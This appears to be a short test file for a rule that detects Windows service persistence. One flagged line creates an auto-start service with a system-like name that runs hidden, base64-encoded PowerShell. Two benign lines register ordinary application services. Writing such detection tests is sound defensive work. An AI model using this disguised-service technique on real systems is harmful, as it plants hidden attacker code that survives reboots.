# ruleid: ps-service-persistence
sc.exe create WinSvcHost binPath= "cmd /c powershell -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA" start= auto
# ===== block =====
# ok: ps-service-persistence
sc.exe create MyAppSvc binPath= "C:\Program Files\MyApp\myapp-service.exe" start= auto
# ok: ps-service-persistence
New-Service -Name "MyApp" -BinaryPathName "C:\Program Files\MyApp\svc.exe" -StartupType Automatic
